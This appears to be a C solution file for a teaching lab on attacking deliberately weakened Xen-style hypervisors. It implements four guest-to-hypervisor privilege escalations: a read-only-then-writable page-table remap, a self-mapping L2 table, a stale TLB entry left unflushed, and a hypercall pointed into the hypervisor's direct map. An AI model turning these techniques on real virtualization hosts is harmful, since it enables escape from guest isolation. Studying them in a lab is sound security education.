/* SPDX-License-Identifier: MIT */
/* Lab 8: the attacks. README.md describes the weak hypervisors, lab.h what there is to use. */
#include "lab.h"

#define RO         (PTE_P | PTE_A | PTE_D)
#define RW         (RO | PTE_RW)
#define DIRECT_MAP 0xffff830000000000ul /* docs/memory-layout.md */

static pte_t entry(const void *page, pte_t flags)
{
	return (pte_t)va_to_mfn(page) << 12 | flags;
}

/* A read-only mapping of the table is allowed. Then the same frame, with one right more. */
long attack_table(pte_t *victim)
{
	long rc = hypercall_update_va_mapping((unsigned long)window, entry(victim, RO), UVMF_INVLPG);

	if (!rc)
		rc = hypercall_update_va_mapping((unsigned long)window, entry(victim, RW), UVMF_INVLPG);
	if (!rc)
		*(volatile pte_t *)window = loot();
	return rc;
}

/* A table that names itself at SELF shows all its tables as pages there: the processor takes it for an L1. The entry that
 * names the victim may allow writing, as usual; it is the one that names the table itself that must not. */
long attack_linear(pte_t *victim)
{
	enum {
		VICTIM,
		SELF
	};
	pte_t *l2 = page_alloc();
	long rc;

	l2[VICTIM] = entry(victim, RW | PTE_U);
	l2[SELF] = entry(l2, RW | PTE_U);
	rc = hook_l2(l2);
	if (!rc)
		*(volatile pte_t *)(HOLE + SELF * 0x200000ul + VICTIM * PAGE_SIZE) = loot();
	return rc;
}

/* The window shows the page writable, and the TLB knows it by the store. Then the entry goes, but no flush is
 * asked for. */
void prepare_tlb(pte_t *victim)
{
	hypercall_update_va_mapping((unsigned long)window, entry(victim, RW), UVMF_INVLPG);
	*(volatile pte_t *)window = 0;
	hypercall_update_va_mapping((unsigned long)window, 0, 0);
	page_set_ro(victim, true);
}

long attack_tlb(pte_t *victim)
{
	*(volatile pte_t *)window = loot();
	return 0;
}

/* The hypervisor sees all memory, writable, in its direct map; it is to write its answer there for us. */
long attack_pointer(pte_t *victim)
{
#ifdef __x86_64__
	return hypercall_xen_version(XENVER_capabilities,
				     (void *)(DIRECT_MAP + va_to_mfn(victim) * PAGE_SIZE));
#else
	return 0;
#endif
}
